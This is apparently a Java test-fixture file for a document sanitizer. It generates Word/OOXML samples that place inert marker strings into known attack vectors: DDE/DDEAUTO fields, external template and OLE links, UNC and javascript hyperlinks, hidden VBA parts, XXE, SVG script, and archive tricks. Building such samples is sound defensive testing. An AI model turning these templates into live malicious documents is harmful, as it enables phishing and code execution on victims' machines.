// SPDX-License-Identifier: Apache-2.0
package jp.sekisho.sanitize.kit;

import static jp.sekisho.sanitize.kit.Office.field;
import static jp.sekisho.sanitize.kit.Office.relationship;
import static jp.sekisho.sanitize.kit.Office.run;
import static jp.sekisho.sanitize.kit.Office.word;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Function;
import jp.sekisho.sanitize.Content;

/// Word documents.
final class WordSamples {

    private final List<Sample> all = new ArrayList<>();

    private WordSamples() {}

    static List<Sample> all() {
        WordSamples samples = new WordSamples();
        samples.relationships();
        samples.fields();
        samples.parts();
        samples.markup();
        samples.containers();
        return samples.all;
    }

    private void add(String id, String title, Function<String, byte[]> bytes) {
        String mark = Marks.of(id);
        all.add(new Sample(id, title, id + ".docx", mark, Content.of(bytes.apply(mark))));
    }

    private void external(String id, String title, String type, String target, String body) {
        add(
                id,
                title,
                m ->
                        word(body, relationship("rId9", type, target.replace("MARK", m), true), "")
                                .bytes());
    }

    private void relationships() {
        external("OOXML-01", "外部テンプレート", "attachedTemplate", "http://MARK.example/t.dotm", "");
        external(
                "OOXML-02",
                "外部OLEオブジェクト",
                "oleObject",
                "mhtml:http://MARK.example/x!x-usc:http://MARK.example/x",
                "<w:p><w:r><w:object><o:OLEObject Type=\"Link\" ProgID=\"htmlfile\" r:id=\"rId9\" UpdateMode=\"OnCall\"/></w:object></w:r></w:p>");
        external(
                "OOXML-03",
                "外部画像",
                "image",
                "http://MARK.example/i.png",
                "<w:p><w:r><w:pict><v:shape><v:imagedata r:id=\"rId9\"/></v:shape></w:pict></w:r></w:p>");
        external("OOXML-04", "フレーム", "frame", "http://MARK.example/f.htm", "");
        external(
                "OOXML-05",
                "サブ文書(UNC)",
                "subDocument",
                "\\\\MARK\\s\\d.docx",
                "<w:subDoc r:id=\"rId9\"/>");
        external(
                "OOXML-06",
                "strict名前空間の関係",
                "http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate",
                "http://MARK.example/t.dotm",
                "");
        String link =
                "<w:p><w:hyperlink r:id=\"rId9\"><w:r><w:t>リンク</w:t></w:r></w:hyperlink></w:p>";
        external("OOXML-07", "リンク(UNC)", "hyperlink", "file://///MARK/share", link);
        external("OOXML-08a", "リンク(javascript)", "hyperlink", "javascript:MARK()", link);
        external("OOXML-08b", "リンク(search-ms)", "hyperlink", "search-ms:query=MARK", link);
        external(
                "OOXML-08c",
                "リンク(ms-word)",
                "hyperlink",
                "ms-word:ofe|u|http://MARK.example",
                link);
        external("OOXML-47", "実体参照で隠した関係", "hyperlink", "&#x66;ile:&#x2f;/MARK/s", link);
        external(
                "OOXML-49",
                "末尾に空白のある関係の種類",
                Office.R + "/attachedTemplate ",
                "http://MARK.example/t",
                "");
        external("OOXML-51", "外部動画", "video", "http://MARK.example/v.mp4", "");
        external("OOXML-57", "差し込み印刷の元", "mailMergeSource", "file:///MARK.mdb", "");
    }

    private void fields() {
        add("OOXML-10", "DDEAUTO(分割)", m -> word(field("DDE", "AUTO c:\\\\x ", m), "", "").bytes());
        add("OOXML-11", "DDE", m -> word(field("DDE cmd " + m), "", "").bytes());
        add("OOXML-12", "ddeauto(小文字)", m -> word(field(" ddeauto cmd " + m), "", "").bytes());
        add(
                "OOXML-13",
                "fldSimpleのDDE",
                m ->
                        word(
                                        "<w:p><w:fldSimple w:instr=\"DDEAUTO cmd "
                                                + m
                                                + "\"><w:r><w:t>結果</w:t></w:r></w:fldSimple></w:p>",
                                        "",
                                        "")
                                .bytes());
        add(
                "OOXML-14",
                "入れ子のQUOTE",
                m ->
                        word(
                                        "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
                                                + "<w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
                                                + "<w:r><w:instrText> cmd "
                                                + m
                                                + "</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
                                                + "<w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>",
                                        "",
                                        "")
                                .bytes());
        add(
                "OOXML-15a",
                "INCLUDEPICTURE",
                m ->
                        word(field("INCLUDEPICTURE \"http://" + m + ".example/i.png\""), "", "")
                                .bytes());
        add(
                "OOXML-15b",
                "INCLUDETEXT",
                m ->
                        word(field("INCLUDETEXT \"\\\\\\\\" + m + "\\\\s\\\\d.docx\""), "", "")
                                .bytes());
        add("OOXML-15c", "LINK", m -> word(field("LINK Excel.Sheet.12 " + m), "", "").bytes());
        add(
                "OOXML-15d",
                "リンクのフィールド(file)",
                m -> word(field("HYPERLINK \"file://" + m + "/x\""), "", "").bytes());
        add(
                "OOXML-15e",
                "MACROBUTTON",
                m -> word(field("MACROBUTTON " + m + " ここを押す"), "", "").bytes());
    }

    private Archive withPart(String relType, String name, String type, String text) {
        return word(
                        "",
                        relationship("rId9", relType, "/" + name, false),
                        "<Override PartName=\"/" + name + "\" ContentType=\"" + type + "\"/>")
                .put(name, text);
    }

    private void parts() {
        String vba = "http://schemas.microsoft.com/office/2006/relationships/vbaProject";
        add(
                "OOXML-09a",
                "altChunk(RTF)",
                m ->
                        word(
                                        "<w:altChunk r:id=\"rId9\"/>",
                                        relationship("rId9", "aFChunk", "/word/chunk.rtf", false),
                                        "")
                                .put("word/chunk.rtf", "{\\rtf1 " + m + "}")
                                .bytes());
        add(
                "OOXML-09b",
                "altChunk(HTML)",
                m ->
                        word(
                                        "<w:altChunk r:id=\"rId9\"/>",
                                        relationship("rId9", "aFChunk", "/word/chunk.html", false),
                                        "")
                                .put("word/chunk.html", "<html><script>" + m + "</script></html>")
                                .bytes());
        add(
                "OOXML-16",
                "画像の名前のVBA",
                m -> withPart(vba, "word/media/image1.png", "image/png", "VBA " + m).bytes());
        add(
                "OOXML-17",
                "種類を偽ったVBA",
                m -> withPart(vba, "word/vbaProject.bin", "application/octet-stream", m).bytes());
        add(
                "OOXML-18",
                "目録にない部品",
                m -> word("", "", "").put("word/hidden.xml", "<x>" + m + "</x>").bytes());
        add(
                "OOXML-19",
                "実行ファイルの部品",
                m -> withPart("image", "word/media/tool.exe", "image/png", "MZ" + m).bytes());
        add(
                "OOXML-20",
                "リボンの改造",
                m ->
                        word("", "", "")
                                .put("customUI/customUI.xml", "<customUI onLoad=\"" + m + "\"/>")
                                .put(
                                        "_rels/.rels",
                                        Office.relationships(
                                                relationship(
                                                                "rId1",
                                                                "officeDocument",
                                                                "word/document.xml",
                                                                false)
                                                        + relationship(
                                                                "rId2",
                                                                "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility",
                                                                "customUI/customUI.xml",
                                                                false)))
                                .bytes());
        add(
                "OOXML-21",
                "埋め込み文書の中のDDE",
                m ->
                        withPart(
                                        "package",
                                        "word/embeddings/inner.docx",
                                        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                                        "")
                                .put(
                                        "word/embeddings/inner.docx",
                                        word(field("DDEAUTO " + m), "", "").bytes())
                                .bytes());
        add(
                "OOXML-23",
                "ActiveX",
                m ->
                        word(
                                        "<w:p><w:r><w:object><w:control r:id=\"rId9\" w:name=\""
                                                + m
                                                + "\"/></w:object></w:r></w:p>",
                                        relationship(
                                                "rId9",
                                                "control",
                                                "/word/activeX/activeX1.xml",
                                                false),
                                        "")
                                .put(
                                        "word/activeX/activeX1.xml",
                                        "<ax:ocx xmlns:ax=\"urn:x\" ax:classid=\"" + m + "\"/>")
                                .bytes());
        add(
                "OOXML-24",
                "VBAの署名",
                m ->
                        withPart(
                                        "http://schemas.microsoft.com/office/2006/relationships/vbaProjectSignature",
                                        "word/vbaProjectSignature.bin",
                                        "application/vnd.ms-office.vbaProjectSignature",
                                        m)
                                .bytes());
        add(
                "OOXML-53",
                "独自XMLのスクリプト",
                m ->
                        withPart(
                                        "customXml",
                                        "customXml/item1.xml",
                                        "application/xml",
                                        "<script>" + m + "</script>")
                                .bytes());
        add(
                "OOXML-58",
                "Webアドイン(作業ウィンドウ)",
                m ->
                        withPart(
                                        "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes",
                                        "word/webextensions/taskpanes.xml",
                                        "application/vnd.ms-office.webextensiontaskpanes+xml",
                                        "<wetp:taskpanes xmlns:wetp=\"urn:y\" id=\"" + m + "\"/>")
                                .bytes());
        add(
                "OOXML-59",
                "glTFモデル",
                m ->
                        withPart(
                                        "http://schemas.microsoft.com/office/2017/06/relationships/model3d",
                                        "word/media/model3d1.glb",
                                        "model/gltf.binary",
                                        "glTF" + m)
                                .bytes());
        add(
                "OOXML-56",
                "EMFの中身",
                m ->
                        withPart(
                                        "image",
                                        "word/media/image1.emf",
                                        "image/x-emf",
                                        "\u0001\u0000\u0000\u0000" + m)
                                .bytes());
        add(
                "OOXML-60",
                "ハイパーリンクの基点",
                m ->
                        word("", "", "")
                                .put(
                                        "docProps/app.xml",
                                        "<Properties xmlns=\"http://schemas.openxmlformats.org/officeDocument/2006/extended-properties\"><HyperlinkBase>http://"
                                                + m
                                                + ".example/</HyperlinkBase></Properties>")
                                .put(
                                        "_rels/.rels",
                                        Office.relationships(
                                                relationship(
                                                                "rId1",
                                                                "officeDocument",
                                                                "word/document.xml",
                                                                false)
                                                        + relationship(
                                                                "rId2",
                                                                "extended-properties",
                                                                "docProps/app.xml",
                                                                false)))
                                .bytes());
    }

    private void markup() {
        add(
                "OOXML-22",
                "DOCTYPE(XXE)",
                m ->
                        word("", "", "")
                                .put(
                                        "word/document.xml",
                                        "<!DOCTYPE w [<!ENTITY x SYSTEM \"file:///"
                                                + m
                                                + "\">]><w:document xmlns:w=\""
                                                + Office.W
                                                + "\"><w:body>&x;</w:body></w:document>")
                                .bytes());
        add(
                "OOXML-46",
                "代替表示に隠す",
                m ->
                        word(
                                        run(
                                                "<mc:AlternateContent><mc:Choice Requires=\"v\"><w:t>見える</w:t></mc:Choice><mc:Fallback><w:object>"
                                                        + "<o:OLEObject ProgID=\""
                                                        + m
                                                        + "\" r:id=\"rId77\"/></w:object></mc:Fallback></mc:AlternateContent>"),
                                        "",
                                        "")
                                .bytes());
        add(
                "OOXML-50",
                "VMLのhref",
                m ->
                        word(
                                        "<w:p><w:r><w:pict><v:shape href=\"http://"
                                                + m
                                                + ".example\" o:href=\"file://"
                                                + m
                                                + "\"><v:imagedata src=\"http://"
                                                + m
                                                + ".example/i\" o:href=\"http://"
                                                + m
                                                + "\"/></v:shape></w:pict></w:r></w:p>",
                                        "",
                                        "")
                                .bytes());
        add(
                "OOXML-61",
                "タグ文字に隠した文章",
                m -> word(run("<w:t>見出し" + tags(m) + "</w:t>"), "", "").bytes());
        add(
                "OOXML-62",
                "コメントと処理命令",
                m -> word("<!-- " + m + " --><?x " + m + "?>", "", "").bytes());
        add(
                "OOXML-63",
                "知らない名前空間",
                m ->
                        word(
                                        "<z:a xmlns:z=\"urn:"
                                                + m
                                                + "\" z:b=\""
                                                + m
                                                + "\">"
                                                + m
                                                + "</z:a>",
                                        "",
                                        "")
                                .bytes());
        add(
                "OOXML-64",
                "svgBlip",
                m ->
                        word(
                                        "<w:p><w:r><w:drawing><a:blip><a:extLst><a:ext uri=\"{96DAC541-7B7A-43D3-8B79-37D633B846F1}\">"
                                                + "<asvg:svgBlip xmlns:asvg=\"http://schemas.microsoft.com/office/drawing/2016/SVG/main\" r:embed=\"rId9\"/></a:ext></a:extLst></a:blip></w:drawing></w:r></w:p>",
                                        relationship(
                                                "rId9", "image", "/word/media/image1.svg", false),
                                        "")
                                .put(
                                        "word/media/image1.svg",
                                        "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>"
                                                + m
                                                + "</script></svg>")
                                .bytes());
    }

    static String tags(String text) {
        StringBuilder out = new StringBuilder();
        text.chars().forEach(c -> out.appendCodePoint(0xe0000 + c));
        return out.toString();
    }

    private void containers() {
        add("OOXML-32", "二重の部品", m -> duplicate(m));
        add("OOXML-35a", "書庫のコメント", m -> word("", "", "").bytes(m));
        add(
                "OOXML-35b",
                "末尾の書庫",
                m ->
                        Archive.join(
                                word("", "", "").bytes(),
                                new Archive().put("x.exe", "MZ" + m).bytes()));
        add(
                "OOXML-40",
                "大文字小文字だけ違う部品",
                m -> word("", "", "").put("word/DOCUMENT.xml", "<x>" + m + "</x>").bytes());
        add(
                "OOXML-44",
                "docxを名乗るdocm",
                m ->
                        word(
                                        "",
                                        relationship(
                                                "rId9",
                                                "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                                                "/word/vbaProject.bin",
                                                false),
                                        "")
                                .put(
                                        "[Content_Types].xml",
                                        Office.types(
                                                "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>",
                                                ""))
                                .put("word/vbaProject.bin", m)
                                .bytes());
        String flat = Marks.of("OOXML-41");
        all.add(
                new Sample(
                        "OOXML-41",
                        "Flat OPC",
                        "OOXML-41.xml",
                        flat,
                        Content.of(
                                ("<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?><pkg:package xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\">"
                                                + "<pkg:part pkg:name=\"/word/vbaProject.bin\"><pkg:binaryData>"
                                                + flat
                                                + "</pkg:binaryData></pkg:part></pkg:package>")
                                        .getBytes(StandardCharsets.UTF_8))));
        String old = Marks.of("OOXML-42");
        all.add(
                new Sample(
                        "OOXML-42",
                        "Word 2003 XML",
                        "OOXML-42.doc",
                        old,
                        Content.of(
                                ("<?xml version=\"1.0\"?><w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\"><w:binData>"
                                                + old
                                                + "</w:binData></w:wordDocument>")
                                        .getBytes(StandardCharsets.UTF_8))));
    }

    /// The same name twice: the directory's second entry is renamed to the first by hand.
    private static byte[] duplicate(String mark) {
        byte[] bytes = word("", "", "").put("word/document.xmk", "<x>" + mark + "</x>").bytes();
        byte[] name = Archive.ascii("word/document.xmk");
        for (int i = 0; i + name.length <= bytes.length; i++) {
            if (java.util.Arrays.equals(bytes, i, i + name.length, name, 0, name.length)) {
                bytes[i + name.length - 1] = 'l';
            }
        }
        return bytes;
    }
}
